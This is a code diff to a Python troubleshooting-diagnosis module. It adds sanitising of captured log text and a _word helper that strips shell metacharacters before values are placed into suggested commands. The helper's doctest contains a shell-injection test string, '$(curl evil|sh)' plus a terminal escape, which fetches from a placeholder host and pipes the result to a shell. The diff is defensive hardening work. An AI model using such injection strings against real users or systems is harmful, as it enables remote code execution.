@@ -58,7 +58,8 @@ class Diagnosis:
             "next": self.next,
             "docs": self.docs,
             "evidence": [
-                {"source": e.source, "about": e.about, "text": e.text} for e in self.evidence
+                {"source": e.source, "about": clean(e.about), "text": clean(e.text)}
+                for e in self.evidence
             ],
         }
 
@@ -79,13 +80,13 @@ def diagnose(evidence: Sequence[Evidence], names: Mapping[str, str]) -> list[Dia
         matching = [e for e in evidence if cause.fits(e.source, e.text)]
         if not matching:
             continue
-        words = {"about": matching[0].about, "group": _group([*matching, *evidence]), **names}
-        words |= _captured(cause, matching[0].text)
+        seen = {"about": matching[0].about, "group": _group([*matching, *evidence])}
+        seen |= _captured(cause, matching[0].text)
         matching += [e for e in evidence if e.source == cause.also]
         found[cause] = Diagnosis(
             cause.id,
-            _fill(cause.cause, words),
-            _fill(cause.next, words),
+            clean(_fill(cause.cause, seen | dict(names))),
+            _fill(cause.next, {key: _word(each) for key, each in seen.items()} | dict(names)),
             f"docs/troubleshooting.md#{cause.id}",
             tuple(_few(matching)),
         )
@@ -109,6 +110,15 @@ def _captured(cause: Cause, text: str) -> dict[str, str]:
     match = cause.pattern.search(text)
     assert match
     return {name: value or "" for name, value in match.groupdict().items()}
+
+
+def _word(text: str) -> str:
+    """Keep of a word that somebody else wrote what means nothing to a shell: it is to be typed.
+
+    >>> _word("ml.p5.48xlarge for cluster usage"), _word("$(curl evil|sh)\x1b]0;x")
+    ('ml.p5.48xlarge for cluster usage', 'curl evilsh0x')
+    """
+    return re.sub(r"[^\w .:/@+=,-]", "", clean(text))
 
 
 def _group(evidence: Sequence[Evidence]) -> str:
